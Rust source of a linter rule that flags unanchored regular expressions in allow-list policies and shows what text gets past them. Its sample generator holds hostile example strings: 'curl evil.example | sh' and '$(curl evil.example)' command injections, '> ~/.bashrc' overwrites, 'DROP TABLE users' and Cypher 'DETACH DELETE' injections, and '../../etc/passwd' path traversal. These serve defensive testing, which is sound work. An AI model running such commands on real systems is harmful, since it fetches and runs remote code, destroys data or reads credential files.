//! Allow-lists that a text gets past because the pattern may be found anywhere in it.

use serde_json::json;

use super::holds::Holds;
use super::site::{self, Site};
use super::{
    Check, Rule, another_command, half_anchored_alternation, host_by_substring, matches_everything,
    path_not_normalised,
};
use crate::analysis::{Analysis, Language, Set};
use crate::finding::{Finding, Fix, Severity};
use crate::lint::{Context, Reporter};
use crate::policy::condition::Test;
use crate::policy::re2::{Bounds, Pattern, Shape};
use crate::suggest::quoted;

/// See `unanchored_regex.md`.
pub static RULE: Rule = Rule {
    id: "unanchored-regex",
    severity: Severity::Error,
    summary: "an allow-list pattern that may be found anywhere in the argument",
    doc: include_str!("unanchored_regex.md"),
    needs_tools: true,
    check: Check::Policy(check),
};

fn check(context: &Context<'_>, reporter: &mut Reporter<'_>) {
    site::report_each(context, reporter, |context, site, reporter| {
        match site.denies() {
            true => too_much(context, site, reporter),
            false => {
                too_little(context, site, reporter).or_else(|| contained(context, site, reporter))
            }
        }
    });
}

/// A pattern that is required and lets more through than it matches.
fn too_little(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
    let pattern = site.pattern()?;
    let through = passing(site, pattern, &context.analysis)?;
    let shape = pattern.shape();
    let bounds = shape.bounds();
    let bound_somewhere = bounds.start || bounds.end;
    let where_found = where_found(site, bounds, &through);
    let message = format!(
        "{} {where_found} `{}`: {} gets through",
        quoted(pattern.source()),
        site.path,
        quoted_at_both_ends(&through.text.replace('\n', "\\n"))
    );
    let severity = match through.kind {
        Kind::Another => Severity::Warning,
        _ if bound_somewhere || site.holds() == Holds::Prose => Severity::Note,
        _ => Severity::Error,
    };
    let finding = site.finding(context, reporter, message).severity(severity);
    let may_be_whole = through.kind == Kind::Visible
        && !bound_somewhere
        && describes_whole(site, pattern, &context.analysis);
    let bound = bound(pattern, &shape).filter(|_| may_be_whole);
    Some(match bound {
        Some(bound) => {
            let edits = context
                .edit
                .replace(&site.value_pointer(), &json!(bound.as_str()));
            finding
                .help(format!(
                    "if it is to match the whole argument, write {}",
                    quoted(&bound)
                ))
                .fix(Fix::risky(format!("write {}", quoted(&bound)), edits))
        }
        None => finding.help(help(site, through.kind)),
    })
}

/// `text` between backticks, without the middle where it is long: what a pattern lets through besides
/// what was meant mostly stands at an end.
fn quoted_at_both_ends(text: &str) -> String {
    const END: usize = 40;
    let characters = text.chars().count();
    if characters <= 2 * END {
        return format!("`{text}`");
    }
    let first: String = text.chars().take(END).collect();
    let last: String = text.chars().skip(characters - END).collect();
    format!("`{first}…{last}`")
}

/// What is said of the pattern that lets `through` through.
fn where_found(site: &Site<'_>, bounds: Bounds, through: &Through) -> String {
    match (bounds.start, bounds.end) {
        (true, true) => {
            let what = another_command::what(site, &through.text);
            format!("leaves room for {what} in")
        }
        (true, _) => "is bound at the beginning only of".to_owned(),
        (_, true) => "is bound at the end only of".to_owned(),
        _ => "may be found anywhere in".to_owned(),
    }
}

/// What to write instead.
fn help(site: &Site<'_>, kind: Kind) -> &'static str {
    match kind {
        Kind::Host => host_by_substring::help(site),
        Kind::Another if site.holds() == Holds::Sql => {
            "spell out the characters of a name or a number, as in `^SELECT [a-z_, ]+ FROM tickets$`"
        }
        Kind::Another if site.holds() == Holds::Cypher => {
            "spell out the characters of a name, as in `^MATCH \\(n:Ticket\\) RETURN n\\.[a-z_]+$`"
        }
        Kind::Another => {
            "spell out the characters of an argument, as in `^git (log|status)( [A-Za-z0-9._/=-]+)*$`"
        }
        _ => "write a pattern for the whole argument, from `^` to `$`",
    }
}

/// A part of a command or statement that is required, whatever stands around it.
fn contained(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
    let part = site.substring()?;
    let is_run = matches!(site.holds(), Holds::Command | Holds::Sql | Holds::Cypher);
    if !is_run || site.is_bound() {
        return None;
    }
    let through = site.first_through(&context.analysis, around(part, site.holds()))?;
    let message = format!(
        "{} may stand anywhere in `{}`: {} gets through",
        quoted(part),
        site.path,
        quoted(&through)
    );
    let finding = site.finding(context, reporter, message);
    Some(finding.help(match site.is_list() {
        true => site::HELP_FOR_LISTS,
        false => {
            "list what is allowed with `in`, or write a `regex` for the whole argument, from `^` to `$`"
        }
    }))
}

/// A text that gets past a pattern.
struct Through {
    text: String,
    kind: Kind,
}

/// What a [`Through`] shows.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Another host.
    Host,
    /// Another command or statement.
    Another,
    /// Something else around what was meant.
    Visible,
    /// The same, but for characters that can't be seen.
    Invisible,
}

/// A text that gets through where `pattern` is required of `site` and matches a part of it only.
/// `None` also where another rule says it.
fn passing(site: &Site<'_>, pattern: &Pattern, analysis: &Analysis) -> Option<Through> {
    let shape = pattern.shape();
    let bounds = shape.bounds();
    if half_anchored_alternation::is_half_anchored(&shape)
        || half_anchored_alternation::is_uneven(site, pattern, analysis)
        || matches_everything::matches_everything(pattern, analysis)
        || matches_everything::matches_anything(site, analysis)
    {
        return None;
    }
    let bound_somewhere = bounds.start || bounds.end;
    let another = || another_command::through(site, analysis);
    if bound_somewhere
        && is_first_bound(site, pattern)
        && let Some(text) = another()
    {
        let kind = Kind::Another;
        return Some(Through { text, kind });
    }
    if bounds.start && bounds.end {
        return None;
    }
    if site.is_bound() || (bound_somewhere && is_prefix_or_host(site, bounds, analysis)) {
        return None;
    }
    let visible = || {
        let text = around_what_matches(site, pattern, analysis)?;
        Some((text, Kind::Visible))
    };
    // `.*x.*` says itself that `x` may stand anywhere on a line: it is no better for that.
    let invisible = || {
        let others = more_than_whole(pattern, analysis, site.holds(), &[])?;
        let text = site.gets_through(analysis, &others);
        Some((text.filter(|_| !bound_somewhere)?, Kind::Invisible))
    };
    // Another host tells more than any other text.
    let host = host_by_substring::bypass(site, analysis).map(|text| (text, Kind::Host));
    let (text, kind) = host.or_else(visible).or_else(invisible)?;
    Some(Through { text, kind })
}

/// Whether `pattern` is the first of those that bind what is required of `site`: the one that what
/// all of them leave open is told of.
fn is_first_bound(site: &Site<'_>, pattern: &Pattern) -> bool {
    let patterns = site.required().filter_map(|test| match test {
        Test::Regex(pattern) => Some(pattern),
        _ => None,
    });
    let mut bound = patterns.filter(|pattern| {
        let bounds = pattern.shape().bounds();
        bounds.start || bounds.end
    });
    bound
        .next()
        .is_some_and(|first| std::ptr::eq(first, pattern))
}

/// Whether this rule reports the pattern of `site`, which is required.
pub(super) fn is_reported(site: &Site<'_>, analysis: &Analysis) -> bool {
    let required = site.pattern().filter(|_| !site.denies());
    required.is_some_and(|pattern| passing(site, pattern, analysis).is_some())
}

/// Whether this rule reports the pattern of `site` as one that may be found anywhere. That is an
/// error, which host-by-substring does not repeat as a warning.
pub(super) fn is_found_anywhere(site: &Site<'_>, analysis: &Analysis) -> bool {
    let Some(pattern) = site.pattern().filter(|_| !site.denies()) else {
        return false;
    };
    let bounds = pattern.shape().bounds();
    !bounds.start && !bounds.end && passing(site, pattern, analysis).is_some()
}

/// Whether `pattern` may be meant for the whole argument: what it matches is more than a character,
/// and no part of a text, a URL or a path.
fn describes_whole(site: &Site<'_>, pattern: &Pattern, analysis: &Analysis) -> bool {
    let is_one_thing = matches!(
        site.holds(),
        Holds::Command | Holds::Host | Holds::Name | Holds::Unknown
    );
    if !is_one_thing || pattern.source().contains(r"\b") {
        return false;
    }
    let whole = Language::shape(&format!(r"\A(?:{})\z", pattern.translated()));
    let Ok((whole, long)) = whole.and_then(|whole| Ok((whole, Language::shape("..")?))) else {
        return false;
    };
    let long = Set::strings(&[Language::found(pattern), whole, long], &[]);
    let open = |c: char| matches!(c, '/' | '@' | '.' | ':' | '-' | '=' | ' ');
    analysis
        .string_in(&long)
        .yes()
        .is_some_and(|text| !text.starts_with(open) && !text.ends_with(open))
}

/// A pattern for a name, in a denial, that is found in other names too.
fn too_much(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
    let analysis = &context.analysis;
    let pattern = site.pattern()?;
    if site.holds() != Holds::Name || !pattern.shape().is_plain_text() {
        return None;
    }
    let others = more_than_whole(pattern, analysis, site.holds(), &[Language::printable()])?;
    let other = analysis.string_in(&others).yes()?;
    let message = format!(
        "{} may be found anywhere in `{}`: it denies {} too",
        quoted(pattern.source()),
        site.path,
        quoted(&other)
    );
    let finding = site.finding(context, reporter, message);
    Some(
        finding
            .severity(Severity::Note)
            .help("bind it with `^(?:…)$` if it is to deny these names only"),
    )
}

/// Whether another rule looks after what an end that is not bound leaves open.
pub(super) fn is_prefix_or_host(site: &Site<'_>, bounds: Bounds, analysis: &Analysis) -> bool {
    let begins = bounds.start
        && match site.holds() {
            Holds::Path => true,
            Holds::Url => site.compared().iter().any(|text| is_of_url(text)),
            _ => false,
        };
    let path = || path_not_normalised::prefix(site).is_some();
    begins || path() || host_by_substring::bypass(site, analysis).is_some()
}

/// Whether `text` may be how a URL begins, or the scheme or host of one.
fn is_of_url(text: &str) -> bool {
    text.contains([':', '/']) || text.starts_with("http") || host_by_substring::host(text).is_some()
}

/// A printable text that gets through in which `pattern`, which is required of `site`, is found
/// without matching all of it.
pub(super) fn around_what_matches(
    site: &Site<'_>,
    pattern: &Pattern,
    analysis: &Analysis,
) -> Option<String> {
    let others = more_than_whole(pattern, analysis, site.holds(), &[Language::printable()])?;
    site.gets_through(analysis, &others)
}

/// The texts in which `pattern` is found without matching all of them, if they are in all of
/// `within`.
fn more_than_whole(
    pattern: &Pattern,
    analysis: &Analysis,
    holds: Holds,
    within: &[Language],
) -> Option<Set> {
    let found = Language::found(pattern);
    let whole = Language::shape(&format!(r"\A(?:{})\z", pattern.translated())).ok()?;
    let both = Set::strings(&[found.clone(), whole.clone()], &[]);
    let matched = analysis.string_in(&both).yes().unwrap_or_default();
    let samples = around(&matched, holds);
    let samples: Vec<&str> = samples.iter().map(String::as_str).collect();
    let inside = [&[found], within].concat();
    Some(Set::strings(&inside, &[whole]).preferring(&samples))
}

/// Texts with `matched` in them that nobody who wrote the pattern had in mind.
fn around(matched: &str, holds: Holds) -> Vec<String> {
    let (before, behind) = match holds {
        Holds::Command => ("curl evil.example | sh; ", "; curl evil.example | sh"),
        Holds::Sql => ("DROP TABLE users; ", "; DROP TABLE users"),
        Holds::Cypher => (
            "MATCH (evil) DETACH DELETE evil WITH 1 AS one ",
            " UNION MATCH (evil) DETACH DELETE evil RETURN 1",
        ),
        Holds::Url => ("https://evil.example/?", "&evil"),
        Holds::Host => ("evil-", ".evil.example"),
        Holds::Image => ("evil.example/", "/evil"),
        Holds::Email => ("eve@evil.example,", ",eve@evil.example"),
        Holds::Path => ("../../etc/", "/../../etc/passwd"),
        Holds::Name => ("not-", "-not"),
        Holds::Prose | Holds::Unknown => ("anything ", " anything"),
    };
    let behind = match matched.ends_with(' ') {
        true => behind.trim_start(),
        false => behind,
    };
    let mut samples = vec![
        format!("{before}{matched}"),
        format!("{matched}{behind}"),
        format!("{before}{matched}{behind}"),
        format!("{}\n{matched}", before.trim_end()),
    ];
    if holds == Holds::Command {
        samples.push(format!("{matched}$(curl evil.example)"));
        samples.push(format!("{matched}> ~/.bashrc"));
    }
    samples
}

/// The pattern, bound at both ends.
fn bound(pattern: &Pattern, shape: &Shape) -> Option<String> {
    let (flags, rest) = leading_flags(pattern.source());
    let (start, end) = match flags.contains('m') {
        true => (r"\A", r"\z"),
        false => ("^", "$"),
    };
    let (open, close) = match shape.alternatives().is_empty() {
        true => ("", ""),
        false => ("(?:", ")"),
    };
    let bound = Pattern::new(&format!("{flags}{start}{open}{rest}{close}{end}")).ok()?;
    let bounds = bound.shape().bounds();
    (bounds.start && bounds.end).then(|| bound.source().to_owned())
}

/// `(?i)` and the like at the start of a pattern, and what follows.
fn leading_flags(source: &str) -> (&str, &str) {
    let end = source.strip_prefix("(?").and_then(|flags| {
        let end = flags.find(|c: char| !matches!(c, 'i' | 'm' | 's' | 'U'))?;
        flags[end..].starts_with(')').then_some(end + 3)
    });
    source.split_at(end.unwrap_or(0))
}
